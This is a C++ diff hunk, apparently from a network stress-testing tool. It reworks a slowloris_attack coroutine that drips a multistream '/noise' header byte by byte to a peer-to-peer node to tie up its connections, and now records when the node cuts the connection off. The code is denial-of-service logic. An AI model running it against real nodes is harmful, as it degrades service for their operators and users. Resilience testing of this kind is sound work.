@@ -106,19 +106,16 @@ asio::awaitable<void> slowloris_attack(tcp::endpoint node, int gap_ms, AttackSta
     std::vector<std::uint8_t> header;
     ms_append(header, MULTISTREAM_HEADER);
     ms_append(header, "/noise");
-    auto sock = std::make_shared<tcp::socket>(std::move(*s));
-    auto drip = [&, sock]() -> asio::awaitable<void> {
-        for (std::size_t i = 0; !st.stop && sock->is_open(); i = (i + 1) % header.size()) {
-            auto [ec, n] = co_await asio::async_write(*sock, asio::buffer(&header[i], 1), use_tuple);
-            if (ec) break;
-            st.sent += n;
-            co_await sleep_for(milliseconds(gap_ms));
+    // Once the node closes, the next byte draws a reset and the one after fails.
+    for (std::size_t i = 0; !st.stop; i = (i + 1) % header.size()) {
+        auto [ec, n] = co_await asio::async_write(*s, asio::buffer(&header[i], 1), use_tuple);
+        if (ec) {
+            st.cut_off = true;
+            break;
         }
-    };
-    asio::co_spawn(co_await asio::this_coro::executor, drip(), asio::detached);
-    std::vector<std::shared_ptr<tcp::socket>> socks;  // named: GCC 12 mishandles braced temporaries here
-    socks.push_back(sock);
-    co_await hold(std::move(socks), st);
+        st.sent += n;
+        co_await sleep_for(milliseconds(gap_ms));
+    }
 }
 
 asio::awaitable<void> one_address_attack(tcp::endpoint node, std::size_t count, AttackState& st) {
